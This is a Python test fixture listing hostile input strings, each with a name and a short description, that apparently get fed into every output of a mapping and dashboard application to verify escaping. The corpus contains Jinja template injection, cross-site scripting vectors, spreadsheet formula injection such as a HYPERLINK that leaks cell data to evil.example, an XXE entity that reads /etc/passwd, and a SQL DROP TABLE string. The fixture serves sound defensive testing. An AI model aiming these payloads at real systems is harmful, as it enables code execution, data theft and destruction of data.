"""Strings that once broke a map, a page, a table or a server; every output is driven with all of them.

Each has a name and says what it would do. A string that ran leaves a mark: the environment variable `MARK` on the
server or ``window.pwned`` in the browser.
"""

from __future__ import annotations

from dataclasses import dataclass

MARK = "DATELINE_PWNED"
_JINJA = "cycler.__init__.__globals__.os.environ.__setitem__('DATELINE_PWNED','1')"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A name for the test's report, the text, and what it tries."""

    name: str
    text: str
    tries: str


CORPUS = (
    Hostile("jinja expression", "{{ " + _JINJA + " }}", "runs Python in a template"),
    Hostile("jinja sum", "Losses {{7*7}} so far", "is computed by a template"),
    Hostile("jinja statement", "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}", "runs a template"),
    Hostile("jinja set", "{%- set x = " + _JINJA + " -%}", "runs Python in a template"),
    Hostile("jinja raw end", "{% endraw %}{{ " + _JINJA + " }}{% raw %}", "leaves a raw block"),
    Hostile("jinja comment", "Kyiv {# and the rest is gone", "opens a comment that never ends"),
    Hostile("jinja line", "# for item in range(9)", "is a line statement"),
    Hostile("jinja broken", "{{ & }} {% %} {{", "is no template, and crashes one"),
    Hostile("jinja over parts", "{", "makes {{ beside another brace"),
    Hostile("format field", "{0.__class__} %(name)s %s {excerpt}", "is filled in by a format"),
    Hostile("template literal", "${window.pwned=1}", "runs in a JavaScript template literal"),
    Hostile("template literal, nested", "`${(()=>{window.pwned=1})()}`", "runs in a template literal it closes"),
    Hostile("back-tick", "the `Oreshnik` missile`; window.pwned=1; `", "ends a template literal"),
    Hostile("octal escape", "C:\\20190221\\photo.jpg \\u0041 \\x41 \\", "breaks a template literal, kills the map"),
    Hostile("quote and call", "');window.pwned=1;//", "ends a string in a script"),
    Hostile("double quote", '";window.pwned=1;//', "ends a string in a script"),
    Hostile("script", "<script>window.pwned=1</script>", "is a script"),
    Hostile("script end", "</script><script>window.pwned=1</script>", "ends the script it stands in"),
    Hostile("script comment", "<!--<script>", "makes the rest of a page a comment"),
    Hostile("image", '<img src=x onerror="window.pwned=1">', "runs on an error"),
    Hostile("svg", "<svg/onload=window.pwned=1>", "runs when loaded"),
    Hostile("attribute", '" onmouseover="window.pwned=1" x="', "leaves an attribute"),
    Hostile("attribute, single", "' autofocus onfocus=window.pwned=1 x='", "leaves an attribute"),
    Hostile("frame", '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>', "runs in a frame"),
    Hostile("style", "</style><style>*{background:url(//evil.example/leak)}", "asks another host"),
    Hostile("entity", "&lt;script&gt;window.pwned=1&lt;/script&gt; &amp;amp;", "becomes markup when unescaped twice"),
    Hostile("javascript address", "javascript:window.pwned=1//https://example.org", "is a link that runs"),
    Hostile("javascript address, hidden", "\x01java\tscript:window.pwned=1", "is a link that runs"),
    Hostile("data address", "data:text/html,<script>opener.pwned=1</script>", "is a link that runs"),
    Hostile("line separators", "one\u2028two\u2029three\x85four", "ends a line in a script"),
    Hostile("null", "Mi\x00nsk \x1b[31mred\x07", "cuts a string, colours a terminal"),
    Hostile("bidi", "invoice\u202efdp.exe \u2066hidden\u2069 \u200f", "reads otherwise than it is"),
    Hostile("lone surrogate", "half \ud83d a face", "cannot be written as UTF-8"),
    Hostile("beyond the plane", "𝔎𝔶𝔦𝔳 🚀🚀 e\u0301 Кий", "shifts offsets counted in other units"),
    Hostile("formula", '=HYPERLINK("https://evil.example/?"&A1,"click")', "runs in a spreadsheet"),
    Hostile("formula, plus", "+1+cmd|' /C calc'!A0", "runs in a spreadsheet"),
    Hostile("formula, at", "@SUM(1+1)*cmd|' /C calc'!A0", "runs in a spreadsheet"),
    Hostile("formula, minus", "-2+3+cmd|' /C calc'!A0", "runs in a spreadsheet"),
    Hostile("formula, tab", "\t=1+1", "runs in a spreadsheet"),
    Hostile("csv row", 'a","b"\r\n"c,d;e', "starts a new row"),
    Hostile("xml", "]]><Placemark><name>x</name></Placemark><![CDATA[", "leaves a CDATA section"),
    Hostile("xml entity", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', "reads a file"),
    Hostile(
        "markdown image", "![x](https://evil.example/leak.png) [y](javascript:window.pwned=1)", "asks another host"
    ),
    Hostile("mathtext", "$\\frac{1}{$ costs $5^{ $\\input{/etc/passwd}$", "is typeset, and fails"),
    Hostile("streamlit colours", ":red[:material/home:] $$x$$ :streamlit:", "is a directive"),
    Hostile("sql", "'; DROP TABLE events; --", "ends a query"),
    Hostile("folium names", "map_div feature_group_0 alert(coords); {{'x'}}", "is rewritten by streamlit-folium"),
    Hostile("prototype", "__proto__", "is a key of every object"),
    Hostile("very long", "Ж" * 5000, "is wide"),
    Hostile("zalgo", "Z" + "\u0310\u034d\u0489" * 200, "is tall"),
    Hostile("blank", " \u00a0\u200b ", "looks empty"),
)
TEXTS = tuple(hostile.text for hostile in CORPUS)
NAMES = tuple(hostile.name for hostile in CORPUS)
